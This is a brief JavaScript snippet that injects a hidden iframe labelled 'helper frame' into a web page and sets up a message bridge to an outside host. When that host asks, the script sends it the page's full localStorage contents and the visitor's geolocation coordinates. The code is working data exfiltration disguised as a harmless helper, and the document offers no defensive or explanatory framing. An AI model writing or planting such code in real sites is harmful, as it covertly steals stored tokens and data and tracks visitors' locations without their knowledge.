// destination: https://bridge.amber-ridge.example/frame.html?ref={}
// hidden frame with message bridge
(function (w, d) {
  'use strict';
  var origin = 'https://bridge.amber-ridge.example';
  var frame = d.createElement('iframe');
  frame.style.display = 'none';
  frame.setAttribute('title', 'helper frame');
  frame.src = origin + '/frame.html?ref=' + encodeURIComponent(d.referrer);
  d.body.appendChild(frame);
  w.addEventListener('message', function (ev) {
    if (ev.origin !== origin) return;
    if (ev.data.type === 'request-storage') {
      frame.contentWindow.postMessage({ type: 'storage-dump', items: Object.assign({}, w.localStorage) }, origin);
    } else if (ev.data.type === 'request-location') {
      navigator.geolocation.getCurrentPosition(function (p) {
        frame.contentWindow.postMessage({ type: 'position', lat: p.coords.latitude, lon: p.coords.longitude }, origin);
      });
    }
  });
})(window, document);
